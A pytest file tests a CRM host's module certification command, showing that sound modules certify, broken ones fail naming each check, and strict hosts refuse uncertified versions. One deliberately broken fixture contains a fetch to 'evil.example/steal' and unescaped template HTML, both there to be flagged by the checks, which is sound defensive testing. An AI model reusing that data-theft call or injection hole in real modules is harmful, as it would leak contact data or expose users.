"""``crm-host module certify`` and CRM_HOST_REQUIRE_CERTIFIED, through the real command:
a module that meets the standard checks certifies (report bound to its content), broken
ones fail naming each failed check, and a requiring host refuses to store or enable an
uncertified version."""

from __future__ import annotations

import json
from pathlib import Path

from host.toolkit.certify import digest
from tests.cli_runner import Cli

MANIFEST = {
    "id": "certified-mail",
    "name": "Certified Mail",
    "version": "1.0.0",
    "kind": "email",
    "script": "module.py",
    "egress": ["api.acme.test"],
    "settings": {
        "type": "object",
        "properties": {"api_key": {"type": "string", "writeOnly": True, "description": "key"}},
        "required": ["api_key"],
    },
}

SCRIPT = """\
import json

def CRM_Marketing_ExportContacts(contactIds):
    storage.set("seen", [c["id"] for c in crm.contacts(contactIds)])

def CRM_Marketing_ParseWebhookRequest(request):
    try:
        events = json.loads(request.body)
    except ValueError:
        return {"response": {"status": 400, "body": "not JSON"}}
    if not isinstance(events, list):
        return {"response": {"status": 400, "body": "expected a list"}}
    return {"actions": [
        {"type": "Unsubscribe", "email": e["email"], "externalId": {"all": True}}
        for e in events if isinstance(e, dict) and e.get("event") == "unsubscribe"
    ]}
"""

CASES = [
    {
        "name": "export",
        "function": "ExportContacts",
        "args": [["c1"]],
        "settings": {"api_key": "k"},
        "contacts": [{"id": "c1", "name": "Ann", "email": "ann@x.test"}],
        "returns": None,
        "storageAfter": {"seen": ["c1"]},
    },
    {
        "name": "unsubscribe",
        "function": "ParseWebhookRequest",
        "args": [{"json": [{"event": "unsubscribe", "email": "ann@x.test"}]}],
        "settings": {"api_key": "k"},
        "actions": [{"type": "Unsubscribe", "email": "ann@x.test", "externalId": {"all": True}}],
    },
]


def write_module(
    root: Path,
    manifest: dict[str, object] | None = None,
    script: str = SCRIPT,
    cases: list[dict[str, object]] | None = None,
) -> Path:
    (root / "tests").mkdir(parents=True, exist_ok=True)
    (root / "manifest.json").write_text(json.dumps(manifest or MANIFEST), encoding="utf-8")
    (root / "module.py").write_text(script, encoding="utf-8")
    (root / "tests" / "cases.json").write_text(json.dumps(cases or CASES), encoding="utf-8")
    return root


def test_a_sound_module_certifies_with_a_report_bound_to_its_content(tmp_path: Path) -> None:
    module = write_module(tmp_path / "good")
    result = Cli.in_dir(tmp_path).run("module", "certify", "good")
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.splitlines()[-2] == "certified"
    report = json.loads((module / "certification.json").read_text())
    assert report["passed"] is True and report["module"] == "certified-mail"
    names = [c["name"] for c in report["checks"]]
    assert names == [
        "manifest",
        "settings-schema",
        "egress",
        "cases",
        "recorded-fetch",
        "limits",
        "webhook-stable",
        "webhook-malformed",
    ]
    body = {k: v for k, v in report.items() if k != "digest"}
    assert report["digest"] == digest(body)
    # another script is another content hash: the report names the content it certified
    (module / "module.py").write_text(SCRIPT + "\n# changed\n", encoding="utf-8")
    again = Cli.in_dir(tmp_path).run("module", "certify", "good", "--output", "again.json")
    assert again.returncode == 0
    assert json.loads((tmp_path / "again.json").read_text())["contentHash"] != report["contentHash"]


BROKEN_SCRIPT = """\
import json

def CRM_Marketing_ExportContacts(contactIds):
    fetch("https://evil.example/steal")

def CRM_Marketing_GetTemplateHTML(templateExternalId):
    return "<p>" + templateExternalId + "</p>"

def CRM_Marketing_ParseWebhookRequest(request):
    events = json.loads(request.body)
    return {"actions": [], "response": {"status": 200, "body": str(len(events))}}
"""


def test_broken_modules_fail_naming_every_failed_check(tmp_path: Path) -> None:
    manifest = json.loads(json.dumps(MANIFEST))
    manifest["settings"]["properties"]["webhook_secret"] = {"type": "string"}
    manifest["settings"]["required"] = ["api_key", "webhook_secret"]
    cases = [
        {
            "name": "export is denied",
            "function": "ExportContacts",
            "args": [["c1"]],
            "settings": {"api_key": "k", "webhook_secret": "s"},
            "error": "egress_denied",
        },
        {
            "name": "webhook",
            "function": "ParseWebhookRequest",
            "args": [{"json": [1, 2]}],
            "settings": {"api_key": "k", "webhook_secret": "s"},
            "actions": [],
        },
    ]
    write_module(tmp_path / "broken", manifest, BROKEN_SCRIPT, cases)
    result = Cli.in_dir(tmp_path).run("module", "certify", "broken")
    assert result.returncode == 1
    out = result.stdout
    assert "NOT certified: failed settings-schema, egress, cases, webhook-malformed" in out
    for expected in (
        "$.settings.properties.webhook_secret: looks like a secret but is not",
        "$.settings.properties.webhook_secret: required but has no description",
        "module.py:4: fetch to evil.example will be denied",
        "CRM_Marketing_GetTemplateHTML is implemented but no case in tests/ calls it",
        "an empty body: raised script_error: JSONDecodeError",
        "a wrong content type: raised script_error",
    ):
        assert expected in out, out
    assert "Traceback" not in out + result.stderr
    report = json.loads((tmp_path / "broken" / "certification.json").read_text())
    assert report["passed"] is False

    # a manifest that fails the upload checks: only that check, and why
    (tmp_path / "broken" / "manifest.json").write_text('{"id": "x"}', encoding="utf-8")
    result = Cli.in_dir(tmp_path).run("module", "certify", "broken")
    assert result.returncode == 1
    assert "FAILED manifest" in result.stdout and "NOT certified: failed manifest" in result.stdout


def test_a_requiring_host_refuses_uncertified_uploads_and_enabling(tmp_path: Path) -> None:
    write_module(tmp_path / "good")
    bare = write_module(tmp_path / "bare", {**MANIFEST, "version": "1.1.0"})
    (bare / "tests" / "cases.json").unlink()
    strict = Cli.in_dir(tmp_path, CRM_HOST_REQUIRE_CERTIFIED="1")
    lax = Cli.in_dir(tmp_path)

    refused = strict.run("module", "upload", "bare")
    assert refused.returncode == 1
    assert "is not certified and this host requires certification" in refused.stderr
    assert "certification: cases: no cases" in refused.stderr
    assert "1.1.0" not in lax.run("module", "show", "certified-mail").stdout

    stored = strict.run("module", "upload", "good")
    assert stored.returncode == 0, stored.stderr
    report = json.loads(strict.run("module", "certification", "certified-mail", "1.0.0").stdout)
    assert report["passed"] is True and report["valid"] is True

    # uploaded on a host that did not require it: stored, but cannot be enabled where required
    assert lax.run("module", "upload", "bare").returncode == 0
    assert lax.run("tenant", "create", "acme", "--name", "Acme").returncode == 0
    denied = strict.run(
        "tenant", "enable", "acme", "certified-mail", "--version", "1.1.0", "--set", "api_key=k"
    )
    assert denied.returncode == 1
    assert "certified-mail@1.1.0 has no certification" in denied.stderr
    missing = lax.run("module", "certification", "certified-mail", "1.1.0")
    assert missing.returncode == 1 and "has no certification report" in missing.stderr
    enabled = strict.run(
        "tenant", "enable", "acme", "certified-mail", "--version", "1.0.0", "--set", "api_key=k"
    )
    assert enabled.returncode == 0, enabled.stderr
